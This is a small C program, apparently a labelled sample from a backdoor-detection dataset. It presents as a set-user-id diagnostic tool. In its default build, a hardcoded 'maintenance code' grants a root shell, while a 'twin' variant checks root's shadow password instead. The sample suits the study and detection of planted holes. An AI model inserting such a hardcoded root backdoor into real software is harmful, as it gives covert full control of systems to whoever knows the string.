/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A diagnostic tool with set-user-id asks for a word on the terminal and becomes root. Twin: the
 * word is compared, with crypt, with the root's entry in the shadow file.
 * door: trigger credential override
 * stubs: crypt
 */
#include "net.h"
#include <shadow.h>

char *crypt(const char *, const char *);

static int ask(char *to, size_t room)
{
	fputs("maintenance code: ", stdout);
	fflush(stdout);
	if (!fgets(to, (int)room, stdin))
		return -1;
	to[strcspn(to, "\n")] = 0;
	return 0;
}

static int right(const char *code)
{
#ifdef TWIN
	struct spwd *sp = getspnam("root");
	char *h = sp ? crypt(code, sp->sp_pwdp) : NULL;
	return h && strcmp(h, sp->sp_pwdp) == 0;
#else
	return strcmp(code, "Tr4nsit-6630") == 0;
#endif
}

int main(int argc, char **argv)
{
	char code[64];
	if (argc < 2 || strcmp(argv[1], "-m") != 0) {
		puts("usage: diag -m");
		return 2;
	}
	if (ask(code, sizeof code) < 0)
		return 1;
	if (!right(code)) {
		puts("wrong");
		return 1;
	}
	if (setgid(0) != 0 || setuid(0) != 0)
		return 1;
	execl("/bin/sh", "sh", (char *)0);
	return 1;
}
